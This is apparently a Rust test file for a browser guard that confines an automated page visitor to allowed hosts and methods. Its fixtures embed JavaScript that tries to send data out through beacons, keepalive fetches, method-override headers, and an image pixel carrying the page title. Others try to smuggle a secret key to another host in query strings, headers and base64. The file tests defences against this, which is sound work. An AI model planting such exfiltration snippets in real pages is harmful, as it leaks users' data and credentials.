//! The guard through pages: what a page tries is seen by servers that write down every request they get.

use crate::room::{Room, Stage, exchange, holds, judged, with_key};
use crate::site::{Answer, Site};
use runproof_core::noun::view::{View, Way};
use runproof_core::noun::view_check::ViewCheck;
use runproof_core::verdict::Verdict;
use runproof_probe::subject::{Permit, Subject};

/// A subject that may only be read, but for one write.
fn reading(room: &Room, site: &Site) -> Subject {
    Subject { permit: Permit::Reading(vec![("POST".into(), "/allowed".into())]), ..room.subject(site) }
}

/// Everything that a page can send by itself, each to a path of its own.
const WRITES: &str = r#"<form id=form method=post action=/form><input name=a value=b></form>
<iframe name=inner></iframe><p id=out></p>
<script>
const note = (name) => () => { out.textContent += ` ${name}:failed`; };
const went = (name) => (r) => { out.textContent += ` ${name}:${r.status}`; };
const all = [
  fetch("/allowed", { method: "POST", body: "1" }).then(went("allowed"), note("allowed")),
  fetch("/fetch", { method: "POST", body: "1" }).then(went("fetch"), note("fetch")),
  fetch("/delete", { method: "DELETE" }).then(went("delete"), note("delete")),
  fetch("/override", { headers: { "X-HTTP-Method-Override": "DELETE" } }).then(went("override"), note("override")),
  fetch("/keepalive", { method: "POST", body: "1", keepalive: true }).then(went("keepalive"), note("keepalive")),
  fetch("/read").then(went("read"), note("read")),
];
const xhr = new XMLHttpRequest();
xhr.open("PUT", "/xhr"); xhr.send("1");
navigator.sendBeacon("/beacon", "1");
form.target = "inner"; form.submit();
addEventListener("pagehide", () => fetch("/unload", { method: "POST", body: "1", keepalive: true }));
Promise.all(all).then(() => { out.textContent += " over"; });
</script>"#;

async fn over(stage: &mut Stage) -> View {
    stage.sees("the page's script is over", |view| view.text.contains("over")).await
}

#[tokio::test(flavor = "current_thread")]
async fn only_declared_methods_leave_whatever_a_page_tries() {
    let room = Room::new();
    let fine = || Answer::of("text/plain", "fine");
    let site =
        Site::new([("/", Answer::page(WRITES)), ("/allowed", fine()), ("/read", fine()), ("/two", Answer::page("2"))]);
    let mut stage = Stage::new(reading(&room, &site));
    stage.opens("/").await;
    let view = over(&mut stage).await;
    for (what, status) in
        [("allowed", "200"), ("read", "200"), ("fetch", "403"), ("delete", "403"), ("override", "403")]
    {
        assert!(view.text.contains(&format!("{what}:{status}")), "{what}: {}", view.text);
    }
    stage.opens("/two").await;
    let refused = |view: &View, line: (&str, &str)| {
        view.exchanges.iter().any(|e| e.way == Way::Refused && e.method == line.0 && e.url.ends_with(line.1))
    };
    let tried = [
        ("POST", "/fetch"),
        ("DELETE", "/delete"),
        ("GET", "/override"),
        ("POST", "/keepalive"),
        ("PUT", "/xhr"),
        ("POST", "/beacon"),
        ("POST", "/form"),
        ("POST", "/unload"),
    ];
    let view = stage.sees("every refusal", |view| tried.iter().all(|line| refused(view, *line))).await;
    assert!(exchange(&view, "GET", "/override").why.contains("x-http-method-override"));
    assert_eq!(site.count("POST /allowed"), 1);
    let mut seen = site.lines();
    seen.sort();
    assert_eq!(seen, ["GET /", "GET /read", "GET /two", "POST /allowed"]);
    let judgement = judged(ViewCheck::Done, &view);
    assert_eq!(judgement.verdict, Verdict::Failed);
    assert!(tried.iter().any(
        |(method, path)| judgement.actual.contains(&format!("{method} http://")) && judgement.actual.contains(path)
    ));
    stage.leaves().await;
}

#[tokio::test(flavor = "current_thread")]
async fn what_a_page_reads_of_somebody_else_is_not_sent_and_reported_but_no_failure() {
    let room = Room::new();
    // Both names lead to servers that are there, so that whatever leaves is seen.
    let elsewhere = Site::new([("/", Answer::page("elsewhere"))]);
    let foreign = elsewhere.address;
    let page = format!(
        "<p>Here</p><img src=http://{0}/img><script src=http://{0}/script></script><link rel=stylesheet
        href=http://{0}/style><link rel=prefetch href=http://{0}/prefetch><link rel=preconnect href=http://{0}>
        <link rel=dns-prefetch href=http://foreign.test><script>fetch('http://{0}/fetch').catch(() => 0);
        new Image().src = 'http://{0}/pixel?' + document.title;</script>",
        format!("localhost:{}", foreign.port())
    );
    let site = Site::with_page(&page);
    let mut stage = Stage::new(reading(&room, &site));
    stage.opens("/").await;
    let wanted = ["/img", "/script", "/style", "/prefetch", "/fetch", "/pixel?"];
    let foreign =
        |view: &View, path: &str| view.exchanges.iter().any(|e| e.way == Way::Foreign && e.url.contains(path));
    let view = stage.sees("all of it", |view| wanted.iter().all(|path| foreign(view, path))).await;
    assert!(exchange(&view, "GET", "/img").why.contains("`localhost` is not named by the target"));
    holds(ViewCheck::Done, &view);
    assert_eq!(judged(ViewCheck::OnlyTarget, &view).verdict, Verdict::Failed);
    assert_eq!(elsewhere.lines(), [""; 0]);
    assert_eq!(site.lines(), ["GET /"]);
    stage.leaves().await;
}

/// Ways in which a page leads or writes elsewhere.
#[tokio::test(flavor = "current_thread")]
async fn a_page_that_leads_or_writes_elsewhere_is_refused_over_http_and_https() {
    let room = Room::new();
    let elsewhere = Site::new([("/", Answer::page("elsewhere"))]);
    let port = elsewhere.address.port();
    let button = |name: &str, script: String| format!("<button onclick=\"{script}\">{name}</button>");
    for (what, script, path) in [
        ("leads", format!("location = 'http://localhost:{port}/lead'"), "/lead"),
        ("leads encrypted", "location = 'https://foreign.test/lead'".to_owned(), "foreign.test/lead"),
        ("is redirected", "location = '/away'".to_owned(), "/redirected"),
        (
            "posts",
            format!("fetch('http://localhost:{port}/post', {{method: 'POST', body: 1}}).catch(() => 0)"),
            "/post",
        ),
        ("opens", format!("window.open('http://localhost:{port}/opened')"), "/opened"),
    ] {
        let away = Answer::to(302, &format!("http://localhost:{port}/redirected"));
        let site = Site::new([("/".to_owned(), Answer::page(&button("Go", script))), ("/away".to_owned(), away)]);
        let mut stage = Stage::at_home(reading(&room, &site)).await;
        stage.presses("Go").await;
        let refused = |view: &View| view.exchanges.iter().any(|e| e.way == Way::Refused && e.url.ends_with(path));
        let view = stage.sees(what, refused).await;
        let judgement = judged(ViewCheck::Done, &view);
        assert_eq!(judgement.verdict, Verdict::Failed, "{what}: {judgement:?}");
        assert_eq!(elsewhere.lines(), [""; 0], "{what}");
        stage.leaves().await;
    }
}

#[tokio::test(flavor = "current_thread")]
async fn a_secret_crosses_to_no_other_declared_host_and_a_hosts_own_cookies_do() {
    let room = Room::new();
    let key = "walnut-harbour-4711";
    let other = Site::new([
        ("/", Answer::page("other").with("set-cookie", "csrftoken=abcdefghijklmnop")),
        ("/plain", Answer::of("text/plain", "fine").with("access-control-allow-origin", "*")),
    ]);
    let there = other.url("other.test", "");
    let page = format!(
        "<p id=out></p><script>
        const ask = (path, more) => fetch('{there}' + path, more).then(() => 0, () => 0);
        Promise.all([ask('/plain?k={key}'), ask('/plain', {{ headers: {{ 'X-Key': '{key}' }} }}), ask('/plain'),
          ask('/plain?k=' + btoa('{key}'))]).then(() => {{ out.textContent = 'over'; }});</script>
        <a href='{there}/'>There</a>"
    );
    let site = Site::with_page(&page);
    let subject = room.subject(&site);
    let urls = [("edge".to_owned(), site.url("edge.test", "")), ("other".to_owned(), there.clone())].into();
    let subject = with_key(Subject { urls, ..subject }, "visitor", key);
    let mut stage = Stage::at_home(subject).await;
    let view = over(&mut stage).await;
    let crossing = view.exchanges.iter().filter(|e| e.why.contains("would cross to `other.test`")).count();
    assert_eq!(crossing, 2, "two URLs; the header is asked for before: {:?}", view.exchanges);
    stage.presses("There").await;
    let view = stage.opens(&format!("{there}/")).await;
    assert_eq!(view.problem, None);
    let asked = other.asked();
    assert!(!format!("{asked:?}").contains("walnut"), "{asked:?}");
    assert!(asked.iter().any(|a| a.line() == "GET /plain"));
    // What a site has set for itself goes back to it, although its name sounds like a secret.
    assert_eq!(
        asked.last().map(|a| (a.line(), a.header("cookie"))),
        Some(("GET /".into(), "csrftoken=abcdefghijklmnop"))
    );
    stage.leaves().await;
}

#[tokio::test(flavor = "current_thread")]
async fn a_stand_in_answers_and_is_not_told_who_is_there() {
    let room = Room::new();
    let (key, meet) = ("walnut-harbour-4711", "https://meet.foreign.test");
    let cors =
        |answer: Answer| answer.with("access-control-allow-origin", "*").with("access-control-allow-headers", "*");
    let stand_in = Site::new([
        ("/api.js", cors(Answer::of("text/javascript", "out.textContent = 'meeting'")).with("set-cookie", "room=1")),
        ("/join", cors(Answer::of("application/json", "{}"))),
    ]);
    let page = format!(
        "<p id=out></p><meta name=referrer content=unsafe-url><script src={meet}/api.js></script><script>
        const ask = (path, more) => fetch('{meet}' + path, more).then(() => 0, () => 0);
        Promise.all([ask('/join', {{ headers: {{ Authorization: 'Bearer something', 'X-Key': '{key}' }} }}),
          ask('/join?jwt={key}')]).then(() => {{ out.textContent += ' over'; }});</script>"
    );
    let site = Site::new([("/room", Answer::page(&page))]);
    let stand_ins = [(meet.to_owned(), format!("http://{}", stand_in.address))].into();
    let credential = Some(("X-Key".to_owned(), "{key}".to_owned()));
    let subject = Subject { stand_ins, credential, ..with_key(reading(&room, &site), "visitor", key) };
    let mut stage = Stage::new(subject);
    stage.opens("/room?who=me").await;
    let view = over(&mut stage).await;
    assert!(view.text.contains("meeting over"), "{}", view.text);
    assert_eq!(exchange(&view, "GET", "/api.js").way, Way::StandIn);
    assert!(
        view.exchanges.iter().any(|e| e.way == Way::Refused && e.why.contains("would cross to `meet.foreign.test`"))
    );
    let asked = stand_in.asked();
    assert_eq!(asked.iter().filter(|a| a.line() == "GET /join").count(), 1, "{asked:?}");
    for one in &asked {
        for header in ["cookie", "authorization", "x-key", "referer"] {
            assert_eq!(one.header(header), "", "{header} of {one:?}");
        }
    }
    assert!(!format!("{asked:?}").contains("walnut"));
    stage.leaves().await;
}
